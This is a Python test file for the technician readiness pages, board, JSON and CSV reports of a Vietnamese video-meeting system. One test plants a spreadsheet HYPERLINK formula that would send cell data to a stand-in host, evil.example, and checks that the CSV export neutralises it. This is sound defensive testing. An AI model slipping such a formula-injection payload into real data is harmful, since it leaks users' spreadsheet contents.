"""Readiness pages: the technician's day, confirming, the board and its JSON, the report."""

import csv
import io
import re
from datetime import timedelta

import pytest

from tests.booking.conftest import move_into_the_past, next_working_day

from tests.readiness.conftest import ALL_CHECKS
from tests.conftest import switch_to_english
from vmeeting.core.database import utcnow
from vmeeting.core.extensions import db
from vmeeting.readiness import service


def form_data(sitting, endpoint, token, button="ready", **fields):
    prefix = f"o{sitting.occurrence.id}e{endpoint.id}-"
    data = {"csrf_token": token, prefix + button: "1", prefix + "next": "/readiness"}
    data.update({prefix + name: value for name, value in fields.items()})
    return data


def test_my_day_lists_only_my_sites(client, login, sitting):
    login(sitting.tech_a)
    html = client.get("/readiness").get_data(as_text=True)
    assert html.count('data-testid="my-site"') == 2
    assert sitting.communes[0].name in html and sitting.communes[2].name not in html
    assert "Giao ban trực tuyến" in html


def test_my_day_counts_what_is_confirmed_and_puts_the_rest_first(client, login, sitting):
    """"1/2 đã xác nhận" at the top; the site still to confirm comes first and open, the confirmed one folded."""
    first, second = sitting.communes[:2]  # tech_a's, in the board's order
    service.confirm(sitting.occurrence, first, sitting.tech_a, {"status": "ready", "checks": ALL_CHECKS})
    db.session.commit()
    login(sitting.tech_a)
    html = client.get("/readiness").get_data(as_text=True)
    count = re.search(r'data-testid="confirmed-count">(.*?)</p>', html, re.S).group(1)
    assert re.sub(r"<[^>]+>|\s+", " ", count).split() == ["1/2", "đã", "xác", "nhận"]
    sites = re.findall(r'data-endpoint-id="(\d+)" data-confirmed="(yes|no)"\s+(open)?', html)
    assert sites == [(str(second.id), "no", "open"), (str(first.id), "yes", "")]


def test_technician_confirms_from_the_phone_page(client, login, get_csrf, sitting):
    login(sitting.tech_a)
    site = sitting.communes[0]
    token = get_csrf("/readiness")
    path = f"/readiness/{sitting.occurrence.id}/{site.id}"
    missing = client.post(path, data=form_data(sitting, site, token, camera="y"))
    assert missing.status_code == 400 and "Chưa kiểm tra xong" in missing.get_data(as_text=True)
    done = client.post(path, data=form_data(sitting, site, token, **{n: "y" for n in ALL_CHECKS}))
    assert done.status_code == 302 and done.headers["Location"] == "/readiness"
    assert db.session.scalar(service.readiness_select(sitting.occurrence.id, site.id)).status == "ready"
    issue = client.post(path, data=form_data(sitting, site, token, "issue", note="Micro rè"))
    assert issue.status_code == 302
    db.session.expire_all()
    assert db.session.scalar(service.readiness_select(sitting.occurrence.id, site.id)).note == "Micro rè"


def test_technician_gets_403_for_another_technicians_site(client, login, get_csrf, sitting):
    login(sitting.tech_a)
    other = sitting.communes[2]
    path = f"/readiness/{sitting.occurrence.id}/{other.id}"
    assert client.get(path).status_code == 403
    token = get_csrf("/readiness")
    assert client.post(path, data=form_data(sitting, other, token, "issue", note="x")).status_code == 403
    assert db.session.scalar(service.readiness_select(sitting.occurrence.id, other.id)) is None


def test_confirm_form_needs_csrf(client, login, sitting):
    login(sitting.tech_a)
    site = sitting.communes[0]
    response = client.post(f"/readiness/{sitting.occurrence.id}/{site.id}",
                           data=form_data(sitting, site, "forged", "issue", note="x"))
    assert response.status_code == 400


@pytest.mark.parametrize("path, viewer, anonymous", [
    ("/readiness", 403, 302),
    ("/meetings/{m}/readiness", 200, 302),
    ("/meetings/{m}/readiness.json", 200, 302),
    ("/readiness/report", 200, 302),
    ("/readiness/report.csv", 200, 302),
])
def test_every_page_checks_a_permission(client, login_as, sitting, path, viewer, anonymous):
    path = path.format(m=sitting.meeting.id)
    assert client.get(path).status_code == anonymous
    login_as("viewer")
    assert client.get(path).status_code == viewer


ROLE_RULES = [  # (role, my day, another technician's site, probe now)
    ("viewer", 403, 403, 403),
    ("technician", 200, 403, 302),
    ("scheduler", 200, 200, 302),
    ("admin", 200, 200, 302),
]


@pytest.mark.parametrize("role, day, other_site, probe", ROLE_RULES)
def test_who_may_do_what(client, login, make_user, get_csrf, sitting, app, role, day, other_site, probe):
    app.config["PROBE_TIMEOUT_SECONDS"] = 0.5
    login(sitting.tech_a if role == "technician" else make_user(role))
    assert client.get("/readiness").status_code == day
    assert client.get(f"/readiness/{sitting.occurrence.id}/{sitting.communes[2].id}").status_code == other_site
    token = get_csrf(f"/meetings/{sitting.meeting.id}/readiness")
    response = client.post(f"/meetings/{sitting.meeting.id}/readiness/probe", data={"csrf_token": token})
    assert response.status_code == probe


def test_probe_button_refreshes_the_board(client, login, get_csrf, sitting, app):
    app.config["PROBE_TIMEOUT_SECONDS"] = 0.5
    login(sitting.tech_a)
    board = f"/meetings/{sitting.meeting.id}/readiness"
    html = client.get(board).get_data(as_text=True)
    assert 'data-testid="probe-now"' in html
    response = client.post(f"{board}/probe", data={"csrf_token": get_csrf(board)}, follow_redirects=True)
    assert "Đã kiểm tra 5 điểm cầu: 0 kết nối được, 5 không kết nối được." in response.get_data(as_text=True)
    assert client.post(f"{board}/probe", data={"csrf_token": "forged"}).status_code == 400


def test_board_page_and_json(client, login_as, sitting):
    service.confirm(sitting.occurrence, sitting.communes[2], sitting.tech_b, {"status": "issue", "note": "Mất hình"})
    db.session.commit()
    login_as("scheduler")
    html = client.get(f"/meetings/{sitting.meeting.id}/readiness").get_data(as_text=True)
    assert html.count('data-testid="tile"') == 5 and "Huyện Chi Lăng" in html
    assert 'data-count="issue">1<' in html and "readiness.js" in html and "<script>" not in html
    data = client.get(f"/meetings/{sitting.meeting.id}/readiness.json").get_json()
    assert data["summary"]["issue"] == 1 and data["items"][0]["endpoint_id"] == sitting.hall.id
    show = client.get(f"/meetings/{sitting.meeting.id}").get_data(as_text=True)
    assert f'href="/meetings/{sitting.meeting.id}/readiness"' in show
    assert client.get("/meetings/999999/readiness").status_code == 404
    assert client.get(f"/meetings/{sitting.meeting.id}/readiness?occurrence_id=abc").status_code == 404


def test_report_rates_and_csv(client, login_as, sitting, book, sites):
    past = book([sites["hall"], *sites["communes"][:2]], next_working_day(8), title="Họp tuần trước")
    move_into_the_past(past, (utcnow() - timedelta(days=3)) - past.starts_at)
    occurrence = past.occurrences[0]
    login_as("admin")
    service._ensure_rows(occurrence.id, [sites["hall"].id])
    row = db.session.scalar(service.readiness_select(occurrence.id, sites["hall"].id))
    row.status, row.checks = "ready", ALL_CHECKS
    issue = service._ensure_rows(occurrence.id, [sites["communes"][0].id])[sites["communes"][0].id]
    issue.status, issue.note = "issue", "Mất điện"
    db.session.commit()
    html = client.get("/readiness/report").get_data(as_text=True)
    rates = re.findall(r'data-testid="district-rate">([^<]*)<', html)
    assert rates == ["100.0 %", "0.0 %"]  # the province's hall was ready; neither commune of Chi Lăng
    failing = html.split('data-testid="report-failing"')[1].split("</ol>")[0]
    assert "UBND xã Hòa Bình" in failing and "UBND xã Quang Lang" in failing and "UBND tỉnh" not in failing
    csv_response = client.get("/readiness/report.csv")
    assert csv_response.mimetype == "text/csv"
    lines = csv_response.get_data(as_text=True).lstrip("\ufeff").splitlines()
    assert lines[0] == "code,name,district,sittings,ready,issue,unreachable,pending,ready_rate"
    assert len(lines) == 4  # the future meeting has not started: not counted
    by_district = client.get("/readiness/report.csv?by=district").get_data(as_text=True).lstrip("\ufeff")
    assert by_district.splitlines() == ["district,endpoints,sittings,ready,issue,unreachable,pending,ready_rate",
                                        "Tỉnh Lạng Sơn,1,1,1,0,0,0,100.0", "Huyện Chi Lăng,2,2,0,1,0,1,0.0"]
    assert client.get("/readiness/report.csv?by=unit").status_code == 400
    bad = client.get("/readiness/report?date_from=31/12/2026&date_to=01/01/2026")
    assert bad.status_code == 400


def test_report_csv_neutralises_formulas(client, login_as, book, sites):
    """A site's name reaches the report CSV as text, never as a formula a spreadsheet would run."""
    from vmeeting.registry import service as registry

    name = '=HYPERLINK("http://evil.example/?d="&A2,"Bấm")'
    registry.update_endpoint(sites["hall"], {"name": name})
    past = book([sites["hall"]], next_working_day(), title="Họp tuần trước")
    move_into_the_past(past, (utcnow() - timedelta(days=3)) - past.starts_at)
    login_as("admin")
    text = client.get("/readiness/report.csv").get_data(as_text=True).lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1][1] == "'" + name


def test_a_probe_of_an_ended_sitting_is_refused_in_the_page_language(client, login, get_csrf, api_headers, sitting):
    """The service's Conflict reaches the English board in English; the API and the Vietnamese board keep it."""
    move_into_the_past(sitting.meeting, utcnow() - timedelta(hours=4) - sitting.occurrence.starts_at)
    login(sitting.tech_a)
    board = f"/meetings/{sitting.meeting.id}/readiness?occurrence_id={sitting.occurrence.id}"
    probe = f"/meetings/{sitting.meeting.id}/readiness/probe?occurrence_id={sitting.occurrence.id}"
    switch_to_english(client, "/readiness")
    page = client.post(probe, data={"csrf_token": get_csrf(board)}, follow_redirects=True).get_data(as_text=True)
    assert "The sitting has ended." in page and "Buổi họp đã kết thúc." not in page
    api = client.post(f"/api/v1/meetings/{sitting.meeting.id}/probe?occurrence_id={sitting.occurrence.id}",
                      headers=api_headers(user=sitting.tech_a))
    assert api.status_code == 409 and api.get_json()["error"]["message"] == "Buổi họp đã kết thúc."
    client.post("/lang/vi", data={"csrf_token": get_csrf(board)})
    page = client.post(probe, data={"csrf_token": get_csrf(board)}, follow_redirects=True).get_data(as_text=True)
    assert "Buổi họp đã kết thúc." in page and "The sitting has ended." not in page


def test_an_unfinished_checklist_is_named_in_the_page_language(client, login, get_csrf, api_headers, sitting):
    """The checks still to do are listed in English on the English page, each label translated."""
    site = sitting.communes[0]
    path = f"/readiness/{sitting.occurrence.id}/{site.id}"
    login(sitting.tech_a)
    switch_to_english(client, "/readiness")
    response = client.post(path, data=form_data(sitting, site, get_csrf("/readiness"), camera="y", network="y"))
    page = response.get_data(as_text=True)
    assert response.status_code == 400
    assert ("Not checked yet: Microphone, speakers, Display, Test call with the chair. Tick every item, or report"
            " “Problem”.") in page
    assert "Chưa kiểm tra xong" not in page
    api = client.put(f"/api/v1/meetings/{sitting.meeting.id}/readiness/{site.id}",
                     headers=api_headers(user=sitting.tech_a),
                     json={"status": "ready", "checks": {"camera": True, "network": True}})
    assert api.status_code == 400 and api.get_json()["error"]["fields"]["checks"] == (
        "Chưa kiểm tra xong: Micro, loa, Màn hình, Kết nối thử với điểm chủ tọa. Đánh dấu đủ các mục, hoặc báo "
        "«Có sự cố».")


def test_past_the_cells_a_board_counts_by_province_and_each_province_draws_its_own(client, login_as, sitting,
                                                                                   monkeypatch):
    """A national meeting's board would draw 10,000 cells: past GRID_CELLS it lists each province's counts,
    each a link to its cells; the page's poll carries no more than the page shows."""
    from vmeeting.readiness import views

    service.confirm(sitting.occurrence, sitting.communes[2], sitting.tech_b, {"status": "issue", "note": "Mất hình"})
    db.session.commit()
    monkeypatch.setattr(views, "GRID_CELLS", 2)
    login_as("viewer")
    board = f"/meetings/{sitting.meeting.id}/readiness"
    html = client.get(board).get_data(as_text=True)
    assert 'data-testid="tile"' not in html and html.count('data-testid="readiness-province"') == 1
    province = sitting.hall.unit
    assert f'href="{board}?occurrence_id={sitting.occurrence.id}&amp;unit_id={province.id}"' in html
    assert 'data-count="issue">1<' in html and "Mất hình" in html  # the problem lists are still there
    data = client.get(f"{board}.json").get_json()
    assert data["items"] == [] and data["provinces"][0]["summary"]["total"] == 5
    one = client.get(f"{board}?unit_id={province.id}").get_data(as_text=True)
    assert one.count('data-testid="tile"') == 5 and 'data-testid="board-all"' in one
    assert len(client.get(f"{board}.json?unit_id={province.id}").get_json()["items"]) == 5
